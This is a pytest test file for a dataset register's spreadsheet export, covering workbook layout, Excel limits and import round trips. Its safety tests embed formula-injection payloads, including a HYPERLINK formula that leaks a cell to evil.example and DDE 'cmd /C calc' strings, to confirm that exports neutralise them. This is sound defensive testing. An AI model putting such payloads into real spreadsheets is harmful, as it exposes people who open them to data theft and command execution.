"""The xlsx export: structure, safety, Excel limits, and the edit-and-import round trip.

Workbooks are checked by reading them back with openpyxl, never by comparing bytes.
"""

from __future__ import annotations

import csv
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import update

from register.errors import ValidationError
from register.exports import REGISTER_COLUMNS, ExportReport, export_register, xlsx_book
from register.exports import xlsx as xlsx_mod
from register.register import Register
from register.render.cells import FORMULA_TRIGGERS, needs_formula_guard
from register.rights.columns import EDITABLE_COLUMNS
from register.rights.record import parse_rights_options
from register.store.engine import run_write
from register.store.tables import DATASETS

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
HOSTILE_LICENSE = "=cmd|' /C calc'!A0"


@pytest.fixture
def loaded(sqlite_reg: Register, cards_dir: Path) -> Register:
    sqlite_reg.ingest_paths([cards_dir], recursive=True)
    return sqlite_reg


def _hostile_card(root: Path, name: str, pretty: str, license_name: str,
                  extra: str = "") -> Path:
    d = root / name
    d.mkdir(parents=True)
    (d / "README.md").write_text(
        "---\n"
        f"pretty_name: '{pretty.replace(chr(39), chr(39) * 2)}'\n"
        "license: other\n"
        f"license_name: \"{license_name}\"\n"
        "license_link: '@SUM(1+1)*cmd|'' /C calc''!A0'\n"
        "---\n\n# Card\n" + extra, encoding="utf-8")
    return d


def _header(ws: Any) -> dict[str, int]:
    return {c.value: c.column for c in ws[1]}


def _row_of(ws: Any, dataset_id: str) -> int:
    for row in ws.iter_rows(min_row=2, max_col=1):
        if row[0].value == dataset_id:
            return int(row[0].row)
    raise AssertionError(dataset_id)


def _set(reg: Register, dataset_id: str, **options: Any) -> None:
    change = parse_rights_options(**options) if options else None
    assert change is not None
    reg.set_rights(dataset_id, change, reason="test", by="tester")


# --------------------------------------------------------------------------- structure


def test_workbook_structure(loaded: Register, tmp_path: Path) -> None:
    _set(loaded, "beans", personal_data="yes", lawful_basis="consent",
         consent_purpose=["research"], retain_until="2027-01-31", collected_in=["DE", "FR"])
    out = tmp_path / "register.xlsx"
    report = export_register(loaded, "xlsx", out)
    assert report.rows == loaded.count() == 15
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Register", "Review", "Licenses", "About"]
    ws = wb["Register"]
    header = _header(ws)
    assert list(header) == [c.name for c in REGISTER_COLUMNS]
    assert set(EDITABLE_COLUMNS) <= set(header)
    assert ws.freeze_panes == "B2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}16"
    assert ws.max_row == 16
    widths = [ws.column_dimensions[openpyxl.utils.get_column_letter(i)].width
              for i in range(1, len(header) + 1)]
    # 8 to 60 characters; the stored width adds Excel's cell padding (60 -> 60.71)
    assert all(8 <= w <= 61 for w in widths)
    # read-only marker on computed columns, a help comment on editable ones
    assert "computed" in ws.cell(1, header["declared_license"]).comment.text
    assert "edits are ignored" in ws.cell(1, header["needs_review"]).comment.text
    assert "yes | no | unknown" in ws.cell(1, header["personal_data"]).comment.text
    assert ws.conditional_formatting  # grey computed blocks
    # data validation lists on the closed editable columns
    lists = {dv.formula1: str(dv.sqref) for dv in ws.data_validations.dataValidation
             if dv.type == "list"}
    pd_col = openpyxl.utils.get_column_letter(header["personal_data"])
    assert lists['"yes,no,unknown"'] == f"{pd_col}2:{pd_col}16"
    assert any("legitimate-interests" in f for f in lists)
    # dates are real dates; lists joined with ';'
    r = _row_of(ws, "beans")
    assert ws.cell(r, header["retain_until"]).value == datetime(2027, 1, 31)
    assert ws.cell(r, header["retain_until"]).is_date
    assert ws.cell(r, header["collected_in"]).value == "DE;FR"
    assert isinstance(ws.cell(r, header["last_change"]).value, datetime)
    # needs-review cells are coloured
    aeslc = _row_of(ws, "aeslc")
    cell = ws.cell(aeslc, header["needs_review"])
    assert cell.value == "yes" and cell.fill.fgColor.rgb.endswith("FFEB9C")
    # Review sheet: the unknown license and the consent gap are listed
    review = [tuple(c.value for c in row) for row in wb["Review"].iter_rows(min_row=2)]
    assert any(row[0] == "aeslc" and row[1] == "license" for row in review)
    assert wb["Review"].freeze_panes == "B2"
    # Licenses sheet: every license named, with terms where the KB has them
    lic_ws = wb["Licenses"]
    lic_header = _header(lic_ws)
    names = {row[0].value for row in lic_ws.iter_rows(min_row=2)}
    assert "CC-BY-4.0" in names
    for row in lic_ws.iter_rows(min_row=2):
        assert row[lic_header["in_knowledge_base"] - 1].value in ("yes", "no")
    assert report.warnings == []


def test_check_sheet_with_corpus(loaded: Register, tmp_path: Path) -> None:
    corpus = tmp_path / "corpus.yaml"
    corpus.write_text("name: demo\ndatasets: [beans, aeslc, arabic_speech_corpus]\n")
    out = tmp_path / "check.xlsx"
    report = export_register(loaded, "xlsx", out, corpus=corpus, use="service",
                             on=date(2027, 1, 1))
    assert report.rows == 3
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Register", "Check", "Review", "Licenses", "About"]
    assert {r[0].value for r in wb["Register"].iter_rows(min_row=2)} == {
        "beans", "aeslc", "arabic_speech_corpus"}
    ws = wb["Check"]
    header = _header(ws)
    first = [c.value for c in ws[2]]
    assert first[header["section"] - 1] == "verdict"
    assert first[header["verdict"] - 1] == report.check_verdict == "needs-review"
    verdict_cell = ws.cell(2, header["verdict"])
    assert verdict_cell.fill.fgColor.rgb.endswith("FFEB9C")
    sections = {r[0].value for r in ws.iter_rows(min_row=2)}
    assert "dataset" in sections
    ids = {r[1].value for r in ws.iter_rows(min_row=2) if r[0].value == "dataset"}
    assert ids == {"beans", "aeslc", "arabic_speech_corpus"}
    for row in ws.iter_rows(min_row=3):
        if row[0].value == "dataset" and row[1].value == "aeslc":
            assert row[header["verdict"] - 1].value == "needs-review"
            assert row[header["message"] - 1].value


# --------------------------------------------------------------------------- safety


def test_hostile_card_puts_no_formula_in_any_export(
        sqlite_reg: Register, cards_dir: Path, tmp_path: Path) -> None:
    _hostile_card(cards_dir, "evil", HOSTILE_NAME, HOSTILE_LICENSE)
    _hostile_card(cards_dir, "evil2", "+1+cmd|' /C calc'!A0", "-2+3",
                  extra="## Licensing Information\n\n=HYPERLINK(\"http://x\")\n")
    sqlite_reg.ingest_paths([cards_dir], recursive=True)
    _set(sqlite_reg, "evil", dpia="=1+1", personal_data="yes", lawful_basis="consent",
         consent_purpose=["any"])
    corpus = tmp_path / "corpus.yaml"
    corpus.write_text("name: '=evil corpus'\ndatasets: [evil, evil2, beans]\n")
    out = tmp_path / "out.xlsx"
    export_register(sqlite_reg, "xlsx", out, corpus=corpus, use="service")
    full = tmp_path / "full.xlsx"
    export_register(sqlite_reg, "xlsx", full)
    for path in (out, full):
        wb = openpyxl.load_workbook(path)
        seen_hostile = False
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        # formula-like text is a string cell marked quotePrefix (the value
                        # is the original text, issue 13)
                        if needs_formula_guard(cell.value):
                            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                        seen_hostile |= "HYPERLINK" in cell.value
        assert seen_hostile
    reg_ws = openpyxl.load_workbook(full)["Register"]
    header = _header(reg_ws)
    r = _row_of(reg_ws, "evil")
    assert reg_ws.cell(r, header["pretty_name"]).value == HOSTILE_NAME
    assert reg_ws.cell(r, header["pretty_name"]).quotePrefix
    assert reg_ws.cell(r, header["dpia"]).value == "=1+1"
    assert reg_ws.cell(r, header["dpia"]).quotePrefix
    # the same in CSV
    for args in ({}, {"corpus": corpus, "use": "service"}):
        csv_out = tmp_path / "out.csv"
        export_register(sqlite_reg, "csv", csv_out, **args)  # type: ignore[arg-type]
        with csv_out.open(encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        assert len(rows) > 1
        for row in rows:
            for value in row:
                assert not value.startswith(FORMULA_TRIGGERS), value


def test_escaped_cells_import_back_unchanged(sqlite_reg: Register, cards_dir: Path,
                                             tmp_path: Path) -> None:
    _hostile_card(cards_dir, "evil", HOSTILE_NAME, HOSTILE_LICENSE)
    sqlite_reg.ingest_paths([cards_dir], recursive=True)
    _set(sqlite_reg, "evil", dpia="=1+1")
    out = tmp_path / "out.xlsx"
    export_register(sqlite_reg, "xlsx", out)
    summary = sqlite_reg.import_rights(out, by="tester")
    assert summary["rights_changed"] == 0 and summary["licenses_changed"] == 0
    assert sqlite_reg.show("evil").rights.recorded["dpia"] == "=1+1"


def test_long_cells_are_truncated_visibly_and_reported(
        loaded: Register, tmp_path: Path) -> None:
    long = "x" * 40_000

    def work(conn: Any) -> None:
        conn.execute(update(DATASETS).where(DATASETS.c.id == "beans").values(
            pretty_name=long, declared_reason="bad \x00\x07 bytes"))

    run_write(loaded.engine, work)
    out = tmp_path / "long.xlsx"
    report = export_register(loaded, "xlsx", out)
    ws = openpyxl.load_workbook(out)["Register"]
    header = _header(ws)
    value = ws.cell(_row_of(ws, "beans"), header["pretty_name"]).value
    assert len(value) <= xlsx_mod.MAX_CELL_CHARS
    assert value.startswith("xxxx") and "[truncated:" in value
    assert any("32,767" in w and "beans" in w for w in report.warnings)
    # the json export keeps the full text
    js = tmp_path / "full.json"
    export_register(loaded, "json", js)
    assert long in js.read_text(encoding="utf-8")


def test_cell_limit_counts_utf16_units(tmp_path: Path) -> None:
    # Excel's 32,767 are UTF-16 units: 20,000 emoji are 40,000 of them
    report = ExportReport(path=tmp_path / "x.xlsx")
    book = xlsx_book.Book(tmp_path / "x.xlsx", report)
    text = book.text("\U0001f600" * 20_000, "Register!pretty_name of x")
    assert "[truncated:" in text and text.startswith("\U0001f600")
    assert len(text.encode("utf-16-le")) // 2 <= xlsx_mod.MAX_CELL_CHARS
    assert book.text("\U0001f600" * 16_000, "y") == "\U0001f600" * 16_000  # 32,000 units
    book.finish()
    book.wb.close()
    assert any("32,767" in w and "pretty_name of x" in w for w in report.warnings)


def test_overlong_url_keeps_its_text_without_a_link(loaded: Register, tmp_path: Path) -> None:
    url = "https://huggingface.co/datasets/beans?" + "q" * 2100

    def work(conn: Any) -> None:
        conn.execute(update(DATASETS).where(DATASETS.c.id == "beans").values(source=url))

    run_write(loaded.engine, work)
    out = tmp_path / "long-url.xlsx"
    report = export_register(loaded, "xlsx", out)
    ws = openpyxl.load_workbook(out)["Register"]
    cell = ws.cell(_row_of(ws, "beans"), _header(ws)["source"])
    assert cell.value == url and cell.hyperlink is None
    assert any("2,079" in w and "row" in w for w in report.warnings)


def test_hyperlink_limit_is_respected_and_reported(
        loaded: Register, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def work(conn: Any) -> None:
        for ds in loaded.dataset_ids():
            conn.execute(update(DATASETS).where(DATASETS.c.id == ds).values(
                source=f"https://huggingface.co/datasets/{ds}"))

    run_write(loaded.engine, work)
    monkeypatch.setattr(xlsx_book, "MAX_HYPERLINKS", 5)
    out = tmp_path / "links.xlsx"
    report = export_register(loaded, "xlsx", out)
    ws = openpyxl.load_workbook(out)["Register"]
    header = _header(ws)
    cells = [ws.cell(r, header["source"]) for r in range(2, ws.max_row + 1)]
    assert sum(1 for c in cells if c.hyperlink is not None) == 5
    assert all(c.value.startswith("https://huggingface.co/datasets/") for c in cells)
    assert any("links" in w and "Register" in w for w in report.warnings)


def test_sheet_title_limits() -> None:
    assert xlsx_mod.sheet_title("Register") == "Register"
    long = xlsx_mod.sheet_title("a/b:c*d?e[f]g\\h" + "x" * 40)
    assert len(long) == 31 and not set("[]:*?/\\") & set(long)
    assert xlsx_mod.sheet_title("''") == "Sheet"


# --------------------------------------------------------------------------- round trip


def _edit(path: Path, edits: dict[tuple[str, str], Any]) -> None:
    wb = openpyxl.load_workbook(path)
    ws = wb["Register"]
    header = _header(ws)
    for (dataset_id, column), value in edits.items():
        ws.cell(_row_of(ws, dataset_id), header[column]).value = value
    wb.save(path)


def test_round_trip_imports_exactly_the_edits(loaded: Register, tmp_path: Path) -> None:
    _set(loaded, "beans", personal_data="no", collected_in=["KE"])
    _set(loaded, "cedr", personal_data="yes", lawful_basis="legitimate-interests",
         allowed_region=["EU"], retain_until="2030-06-30")
    before = {ds: loaded.show(ds) for ds in loaded.dataset_ids()}
    audit_before = len(loaded.audit_log())
    out = tmp_path / "edit.xlsx"
    export_register(loaded, "xlsx", out)

    # unedited: a no-op
    summary = loaded.import_rights(out, by="procurement")
    assert summary == {"rows": 15, "rights_changed": 0, "licenses_changed": 0,
                       "unchanged": 15}

    _edit(out, {
        ("beans", "allowed_region"): "EEA",
        ("beans", "retain_until"): datetime(2031, 12, 31),
        ("cedr", "lawful_basis"): "contract",
        ("cedr", "reason"): "DPA signed 2026-10",
        ("aeslc", "personal_data"): "yes",
        ("aeslc", "lawful_basis"): "legitimate-interests",
        ("aeslc", "sensitive"): "confidential-business",
        ("aeslc", "dpia"): "DPIA-42",
        ("aeslc", "concluded_license"): "CC-BY-4.0",
        ("aeslc", "concluded_reason"): "vendor contract 2026-11 grants CC BY",
        ("aeslc", "by"): "alice",
        ("cedr", "pretty_name"): "edits to computed columns are ignored",
    })
    summary = loaded.import_rights(out, by="procurement")
    assert summary == {"rows": 15, "rights_changed": 3, "licenses_changed": 1,
                       "unchanged": 12}

    after = {ds: loaded.show(ds) for ds in loaded.dataset_ids()}
    changed = {ds for ds in after if after[ds].rights.recorded
               != before[ds].rights.recorded
               or after[ds].license.concluded != before[ds].license.concluded}
    assert changed == {"beans", "cedr", "aeslc"}
    beans = after["beans"].rights.recorded
    assert beans["allowed_regions"] == ["EEA"] and beans["retain_until"] == "2031-12-31"
    assert beans["collected_in"] == ["KE"] and beans["personal_data"] == "no"
    cedr = after["cedr"]
    assert cedr.rights.recorded["lawful_basis"] == "contract"
    assert cedr.rights.reason == "DPA signed 2026-10"
    assert cedr.pretty_name == before["cedr"].pretty_name
    aeslc = after["aeslc"]
    assert aeslc.license.concluded == "CC-BY-4.0"
    assert aeslc.license.concluded_by == "procurement"  # the importer (issue 12)
    assert aeslc.license.concluded_reason == \
        "vendor contract 2026-11 grants CC BY (stated by alice)"
    assert aeslc.license.effective == "CC-BY-4.0"
    assert aeslc.rights.recorded["sensitive"] == ["confidential-business"]
    assert aeslc.rights.by == "procurement"
    assert aeslc.rights.reason == "import of edit.xlsx (stated by alice)"
    events = loaded.audit_log()[audit_before:]
    actions = [(e.action, e.dataset_id) for e in events]
    assert sorted(a for a in actions if a[0] != "import") == sorted([
        ("rights.set", "beans"), ("rights.set", "cedr"), ("rights.set", "aeslc"),
        ("license.conclude", "aeslc")])

    # a re-export of the new state imports as a no-op
    again = tmp_path / "again.xlsx"
    export_register(loaded, "xlsx", again)
    assert loaded.import_rights(again)["unchanged"] == 15


def test_invalid_edits_write_nothing_and_name_every_cell(
        loaded: Register, tmp_path: Path) -> None:
    out = tmp_path / "bad.xlsx"
    export_register(loaded, "xlsx", out)
    before = {ds: loaded.show(ds) for ds in loaded.dataset_ids()}
    _edit(out, {
        ("beans", "personal_data"): "maybe",
        ("cedr", "lawful_basis"): "because",
        ("aeslc", "concluded_license"): "NOT A LICENSE ((",
        ("aeslc", "concluded_reason"): "x",
        ("ethos", "allowed_region"): "ZZ",
        ("asset", "lawful_basis"): "consent",  # valid alone: still not written
    })
    with pytest.raises(ValidationError) as info:
        loaded.import_rights(out)
    problems = info.value.problems
    where = {(p.sheet, p.column) for p in problems}
    assert ("Register", "personal_data") in where
    assert ("Register", "lawful_basis") in where
    assert ("Register", "concluded_license") in where
    assert ("Register", "allowed_region") in where
    assert all(p.row and p.row >= 2 for p in problems)
    assert {ds: loaded.show(ds) for ds in loaded.dataset_ids()} == before


# --------------------------------------------------------------------------- read back


def test_notes_validations_links_and_print_setup_read_back(
        loaded: Register, tmp_path: Path) -> None:
    from register.check.facts import LAWFUL_BASES

    hub = "https://huggingface.co/datasets/beans"

    def work(conn: Any) -> None:
        conn.execute(update(DATASETS).where(DATASETS.c.id == "beans").values(source=hub))

    run_write(loaded.engine, work)
    corpus = tmp_path / "corpus.yaml"
    corpus.write_text("name: demo\ndatasets: [beans, aeslc, cedr]\n")
    out = tmp_path / "features.xlsx"
    export_register(loaded, "xlsx", out, corpus=corpus, use="service", on=date(2027, 1, 1),
                    dashboard=True)
    wb = openpyxl.load_workbook(out)
    ws = wb["Register"]
    header = _header(ws)
    last = ws.max_row
    assert last == 4
    # every header cell has its note: what an editable column accepts, "computed" otherwise
    for col in REGISTER_COLUMNS:
        comment = ws.cell(1, header[col.name]).comment
        assert comment is not None and comment.author == "register", col.name
        if col.editable:
            assert comment.text == f"editable: {col.help}", col.name
        elif col.name != "id":
            assert comment.text.startswith(xlsx_mod.COMPUTED_NOTE), col.name
    # a validation over every data row of every editable column, with its prompt
    by_range = {rng: dv for dv in ws.data_validations.dataValidation
                for rng in str(dv.sqref).split()}
    letter = {c.name: openpyxl.utils.get_column_letter(header[c.name]) for c in REGISTER_COLUMNS}
    for col in REGISTER_COLUMNS:
        if not col.editable:
            continue
        dv = by_range.pop(f"{letter[col.name]}2:{letter[col.name]}{last}")
        assert dv.showInputMessage and dv.allow_blank, col.name
        assert (dv.promptTitle, dv.prompt) == (col.name, col.help)
        if col.kind == "date":
            assert (dv.type, dv.operator, dv.errorStyle) == ("date", "greaterThan", "warning")
    assert by_range == {}
    lawful = next(dv for dv in ws.data_validations.dataValidation
                  if str(dv.sqref).startswith(letter["lawful_basis"] + "2"))
    assert lawful.type == "list" and lawful.showErrorMessage
    assert lawful.formula1 == '"' + ",".join((*LAWFUL_BASES, "none")) + '"'
    # the grey background covers exactly the computed columns, every data row
    grey: set[int] = set()
    for cf in ws.conditional_formatting:
        assert [rule.formula for rule in cf.rules] == [["TRUE"]]
        assert cf.rules[0].dxf.fill.bgColor.rgb.endswith("EDEDED")
        for rng in cf.sqref.ranges:
            assert (rng.min_row, rng.max_row) == (2, last)
            grey |= set(range(rng.min_col, rng.max_col + 1))
    assert grey == {header[c.name] for c in REGISTER_COLUMNS
                    if not c.editable and c.name != "id"}
    # links: the Hub source, the license sources
    source = ws.cell(_row_of(ws, "beans"), header["source"])
    assert source.value == hub and source.hyperlink.target == hub
    assert source.font.u == "single"
    licenses = wb["Licenses"]
    linked = [c for row in licenses.iter_rows(min_row=2) for c in row if c.hyperlink]
    assert linked and all(c.hyperlink.target.startswith("https://") for c in linked)
    # frozen header, filter over the rows, printing
    for name, freeze in (("Register", "B2"), ("Check", "A2"), ("Review", "B2"),
                         ("Licenses", "A2")):
        sheet = wb[name]
        assert sheet.freeze_panes == freeze, name
        assert sheet.auto_filter.ref == (
            f"A1:{openpyxl.utils.get_column_letter(sheet.max_column)}{sheet.max_row}"), name
        assert sheet.page_setup.orientation == "landscape", name
        assert sheet.print_title_rows == "$1:$1", name
    about = wb["About"]
    assert about.page_setup.orientation == "portrait" and about.print_title_rows is None
    assert about["A1"].font.b and about["A1"].alignment.wrap_text
    assert about.column_dimensions["A"].width >= 110
    assert wb["Register"].cell(1, header["personal_data"]).fill.fgColor.rgb.endswith("FFF2CC")
    assert wb["Register"].cell(1, header["pretty_name"]).fill.fgColor.rgb.endswith("BFBFBF")


def test_unedited_workbook_imports_as_a_no_op(
        sqlite_reg: Register, cards_dir: Path, tmp_path: Path) -> None:
    _hostile_card(cards_dir, "evil", HOSTILE_NAME, HOSTILE_LICENSE)
    _hostile_card(cards_dir, "odd", "name _x0041_ and _x000A_ as text", "MIT")
    sqlite_reg.ingest_paths([cards_dir], recursive=True)
    _set(sqlite_reg, "evil", dpia="=1+1", personal_data="yes", lawful_basis="consent",
         consent_purpose=["any"])
    _set(sqlite_reg, "odd", dpia="DPIA _x0041_ 7", retain_until="2027-01-31",
         collected_on="2020-02-29", collected_in=["DE", "FR"], sensitive=["health"])
    ids = sqlite_reg.dataset_ids()
    before = {ds: sqlite_reg.show(ds) for ds in ids}
    audit = len(sqlite_reg.audit_log())
    out = tmp_path / "as-exported.xlsx"
    export_register(sqlite_reg, "xlsx", out, on=date(2027, 1, 1), dashboard=True)
    warnings: list[str] = []
    summary = sqlite_reg.import_rights(out, by="procurement", warn=warnings.append)
    assert summary == {"rows": len(ids), "rights_changed": 0, "licenses_changed": 0,
                       "unchanged": len(ids)}
    assert warnings == []  # every computed cell reads back as the register holds it
    assert {ds: sqlite_reg.show(ds) for ds in ids} == before
    assert {e.action for e in sqlite_reg.audit_log()[audit:]} <= {"import"}
    reg_ws = openpyxl.load_workbook(out)["Register"]
    header = _header(reg_ws)
    r = _row_of(reg_ws, "odd")
    # stored as Excel stores such text (openpyxl shows the escapes; Excel and the import not)
    assert reg_ws.cell(r, header["pretty_name"]).value == (
        "name _x005F_x0041_ and _x005F_x000A_ as text")


def _as_shared_strings(src: Path, dst: Path, edits: dict[tuple[str, str], str]) -> None:
    """The Register sheet re-saved the way Excel and LibreOffice save it: every text in the
    shared-string table, a literal ``_xHHHH_`` stored as ``_x005F_xHHHH_`` (XlsxWriter's
    default mode), quote-prefixed text kept so; ``edits`` typed in on the way."""
    import xlsxwriter
    from openpyxl.utils.escape import unescape

    ws = openpyxl.load_workbook(src)["Register"]
    header, ids = _header(ws), {}
    book = xlsxwriter.Workbook(str(dst))
    out = book.add_worksheet("Register")
    quoted = book.add_format({"quote_prefix": True})
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    for r, row in enumerate(ws.iter_rows(), start=0):
        ids[r] = row[header["id"] - 1].value
        for c, cell in enumerate(row):
            value = cell.value
            name = ws.cell(1, c + 1).value
            if (ids[r], name) in edits:
                out.write_string(r, c, edits[ids[r], name])
            elif isinstance(value, str):  # openpyxl shows an inline string as stored
                out.write_string(r, c, unescape(value), quoted if cell.quotePrefix else None)
            elif isinstance(value, datetime):
                out.write_datetime(r, c, value, day)
            elif value is not None:
                out.write(r, c, value)
    book.close()


def test_literal_escape_text_survives_a_shared_string_resave(
        sqlite_reg: Register, cards_dir: Path, tmp_path: Path) -> None:
    sqlite_reg.ingest_paths([cards_dir], recursive=True)
    texts = {"beans": "_x0041_", "aeslc": "a_x005F_b"}
    for dataset_id, text in texts.items():
        _set(sqlite_reg, dataset_id, dpia=text)
    ids = sqlite_reg.dataset_ids()
    before = {ds: sqlite_reg.show(ds) for ds in ids}
    ours = tmp_path / "ours.xlsx"
    export_register(sqlite_reg, "xlsx", ours)
    assert sqlite_reg.import_rights(ours, by="t")["unchanged"] == len(ids)  # inline strings
    resaved = tmp_path / "resaved.xlsx"
    _as_shared_strings(ours, resaved, {})
    import zipfile

    with zipfile.ZipFile(resaved) as archive:
        assert b"<t>_x005F_x0041_</t>" in archive.read("xl/sharedStrings.xml")
    summary = sqlite_reg.import_rights(resaved, by="t")
    assert summary["rights_changed"] == 0 and summary["unchanged"] == len(ids)
    assert {ds: sqlite_reg.show(ds) for ds in ids} == before
    # text typed in a shared-string workbook is read exactly
    _as_shared_strings(ours, resaved, {("beans", "dpia"): "new _x0042_ and x005F_ kept"})
    assert sqlite_reg.import_rights(resaved, by="t")["rights_changed"] == 1
    assert sqlite_reg.show("beans").rights.recorded["dpia"] == "new _x0042_ and x005F_ kept"
    assert sqlite_reg.show("aeslc").rights.recorded["dpia"] == "a_x005F_b"
